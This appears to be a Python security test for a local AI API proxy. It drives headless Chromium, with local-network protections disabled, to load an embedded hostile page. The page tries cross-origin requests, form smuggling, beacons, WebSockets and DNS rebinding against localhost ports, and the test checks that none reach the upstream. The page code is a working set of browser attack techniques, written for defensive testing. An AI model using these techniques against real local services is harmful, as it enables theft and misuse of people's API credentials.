"""A foreign page in a real browser tries everything that a page may send to a port of this computer.

No request may reach an upstream: not by fetch in any mode, form, image, script, frame, beacon, WebSocket or event stream,
neither from another origin nor under a name that was pointed at this computer (DNS rebinding). The same ways are tried on a
server without such a door, which shows that they are ways; and one honest request at the end shows that the count works.
"""

import http.server
import json
import pathlib
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

BODY = json.dumps({"model": "m", "messages": [{"role": "user", "content": "spend"}]})
# A name of the attacker's that leads to this computer.
REBOUND = "rebound.example"

# What is tried on each server.
WAYS = 16

PAGE = """<!doctype html><title>attack</title><body><script>
const body = BODY_TEXT;
const bases = BASES;
const tried = [];
// What a page learns; "unreadable" is all that a well-kept door lets it know.
async function attempt(name, deed) {
  let outcome;
  try { outcome = await Promise.race([deed(), new Promise(r => setTimeout(() => r("silence"), 3000))]); }
  catch (error) { outcome = "unreadable"; }
  tried.push([name, String(outcome)]);
}
const post = (url, options) => async () => { const a = await fetch(url, {method: "POST", body, ...options}); return a.type === "opaque" ? "opaque" : await a.text(); };
const element = (tag, set) => () => new Promise(done => {
  const e = document.createElement(tag);
  e.onload = () => done("loaded"); e.onerror = () => done("unreadable");
  set(e); document.body.append(e);
});
const form = (url, enctype) => () => new Promise(done => {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); frame.onload = () => done("sent");
  document.body.append(frame);
  const f = document.createElement("form"); f.method = "POST"; f.action = url; f.enctype = enctype; f.target = frame.name;
  const i = document.createElement("textarea"); i.name = body.slice(0, -1) + ',"x":"'; i.value = '"}'; f.append(i);
  document.body.append(f); f.submit();
});
const socket = url => () => new Promise(done => { const s = new WebSocket(url); s.onopen = () => { s.send("{}"); done("open"); }; s.onerror = () => done("unreadable"); });
const stream = url => () => new Promise(done => { const s = new EventSource(url); s.onmessage = m => done(m.data); s.onopen = () => done("open"); s.onerror = () => { s.close(); done("unreadable"); }; });
(async () => {
  for (const base of bases) {
    const chat = base + "/v1/chat/completions";
    await attempt(base + " fetch as text", post(chat, {mode: "no-cors", headers: {"content-type": "text/plain"}}));
    await attempt(base + " fetch as form", post(chat, {mode: "no-cors", headers: {"content-type": "application/x-www-form-urlencoded"}}));
    await attempt(base + " fetch with cookies", post(chat, {mode: "no-cors", credentials: "include"}));
    await attempt(base + " fetch as JSON", post(chat, {headers: {"content-type": "application/json"}}));
    await attempt(base + " fetch with a key", post(chat, {headers: {"content-type": "application/json", authorization: "Bearer x"}}));
    await attempt(base + " fetch of models", async () => (await fetch(base + "/v1/models")).text());
    await attempt(base + " fetch of the status", async () => (await fetch(base + "/_tidegate/status")).text());
    await attempt(base + " delete", async () => (await fetch(base + "/v1/responses/resp_1", {method: "DELETE"})).text());
    await attempt(base + " beacon", async () => navigator.sendBeacon(chat, body));
    await attempt(base + " form", form(chat, "text/plain"));
    await attempt(base + " form of parts", form(chat, "multipart/form-data"));
    await attempt(base + " image", element("img", e => e.src = base + "/v1/files/file-1/content"));
    await attempt(base + " script", element("script", e => e.src = base + "/v1/responses/resp_1"));
    await attempt(base + " frame", element("iframe", e => e.src = base + "/v1/responses/resp_1"));
    await attempt(base + " WebSocket", socket(base.replace("http", "ws") + "/v1/realtime?model=m"));
    await attempt(base + " event stream", stream(base + "/v1/responses/resp_1?stream=true"));
  }
  await fetch("/done", {method: "POST", body: JSON.stringify(tried)});
})();
</script>"""


def server(answer):
    """A server whose requests `answer` sees; its port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def respond(self):
            length = int(self.headers.get("content-length") or 0)
            kind, text = answer(self.command, self.path, self.rfile.read(length))
            self.send_response(200)
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(text)))
            self.end_headers()
            self.wfile.write(text)

        do_GET = do_POST = do_DELETE = do_OPTIONS = respond

        def log_message(self, *_):
            pass

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    return listener.server_address[1]


def main(binary, chromium):
    reached, careless, told, done = [], [], [], threading.Event()

    def counted(into):
        def answer(method, path, _):
            into.append(f"{method} {path}")
            return "application/json", b'{"choices":[],"usage":{"prompt_tokens":1,"completion_tokens":1}}'

        return answer

    def attacker(method, path, body):
        if path == "/done":
            told.extend(json.loads(body))
            done.set()
        return "text/html", page.encode()

    home = pathlib.Path(tempfile.mkdtemp())
    (home / "config.toml").write_text(
        f"""
[[account]]
id = "a"
service = "compatible"
base_url = "http://127.0.0.1:{server(counted(reached))}/v1"
credential = {{ env = "ATTACKED_KEY" }}

[[endpoint]]
id = "e"
account = "a"
model = "m"

[[route]]
model = "m"

[[route.group]]
endpoints = ["e"]
"""
    )
    tidegate = subprocess.Popen(
        [binary, "--headless", "--port", "0", "--config-dir", str(home)],
        env={"PATH": "/usr/bin:/bin", "HOME": str(home), "XDG_RUNTIME_DIR": str(home), "ATTACKED_KEY": "canary-browser"},
        stdout=subprocess.PIPE,
        text=True,
    )
    port = tidegate.stdout.readline().strip().removesuffix("/v1").rsplit(":", 1)[1]
    names = ["127.0.0.1", "localhost", REBOUND]
    bases = [f"http://{name}:{port}" for name in names]
    bases.append(f"http://127.0.0.1:{server(counted(careless))}")
    page = PAGE.replace("BODY_TEXT", json.dumps(BODY)).replace("BASES", json.dumps(bases))
    attackers = server(attacker)
    browser = subprocess.Popen(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            # Newer browsers ask the person first. The person said yes.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
            f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1,MAP evil.example 127.0.0.1",
            f"--user-data-dir={home / 'browser'}",
            f"http://evil.example:{attackers}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        if not done.wait(240):
            sys.exit(f"the page did not come to its end; it is at {told[-1:]}")
        # The last beacons may be on their way still.
        time.sleep(1)
        wrong = list(reached)
        # A frame that "loaded" shows our refusal to itself alone; what counts is that no script reads a word.
        read = [(name, outcome) for name, outcome in told if "{" in outcome or outcome == "open"]
        if wrong or read:
            sys.exit(f"reached the upstream: {wrong}; read by the page: {read}")
        if len(told) != WAYS * len(bases):
            sys.exit(f"only {len(told)} ways were tried: {told}")
        if len(careless) < WAYS - 4:
            sys.exit(f"only {careless} reached a server without a door: the attack is too weak to prove anything")
        honest = urllib.request.Request(
            f"{bases[0]}/v1/chat/completions", BODY.encode(), {"content-type": "application/json"}
        )
        urllib.request.urlopen(honest, timeout=10).read()
        if len(reached) != 1:
            sys.exit(f"an honest request was counted {len(reached)} times: the count proves nothing")
    finally:
        browser.kill()
        tidegate.kill()
    print(f"{WAYS} ways of a foreign page, under {len(names)} names: none reached an upstream, none could be read")
    print(f"{WAYS * len(names) + 2} passed, 0 failed")


main(*sys.argv[1:])
